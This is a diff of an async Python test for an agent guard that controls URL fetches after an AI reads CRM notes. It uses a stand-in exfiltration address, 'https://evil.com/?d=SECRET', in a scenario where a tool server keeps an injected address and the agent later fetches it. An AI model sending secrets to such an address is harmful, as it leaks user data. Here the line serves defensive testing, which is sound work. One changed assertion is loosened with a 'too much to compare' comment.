@@ -360,14 +360,15 @@ async def test_s9_a_server_that_joins_its_arguments_quotes_nobody(output: str) -
         assert await run.call(FETCH, url=url)
 
 
-async def test_s9_nor_does_a_server_that_keeps_what_it_was_told() -> None:
+@pytest.mark.parametrize("note", ["", "word " * 9_000, " ".join(f"w{n}" for n in range(9_000))])
+async def test_s9_nor_does_a_server_that_keeps_what_it_was_told(note: str) -> None:
     """S9: Ada said yes to a note in the CRM, not to an address in it that leads elsewhere; nor after a
     pause, or in the thread's next question. What the CRM has of others is quoted."""
     evil, crm = "https://evil.com/?d=SECRET", "https://crm.com/notes/4"
     run = Run()
     await run.guard.on_run_start(LoopState())
     await run.reads()
-    told = {"at": "https://evil.com/?d=", "more": ["SECRET"]}
+    told = {"at": f"{note} https://evil.com/?d=", "more": ["SECRET"]}
     with bound_request(RequestContext(asked(), "run_1", idempotency_key="run_1:told")):
         run.guard.on_exposure(LOOK)
         given = LOOK.arguments.model_validate(told)
@@ -378,7 +379,7 @@ async def test_s9_nor_does_a_server_that_keeps_what_it_was_told() -> None:
     for each in (run, later):
         assert not await each.call(LOOK, f"1. {evil} 2. {crm}", size=10)
         assert await each.call(FETCH, url=evil)
-        assert not await each.call(FETCH, url=crm)
+        assert await each.call(FETCH, url=crm) is ("w1" in note)  # too much to compare
 
 
 async def test_what_others_quote_is_still_read_without_a_yes() -> None:
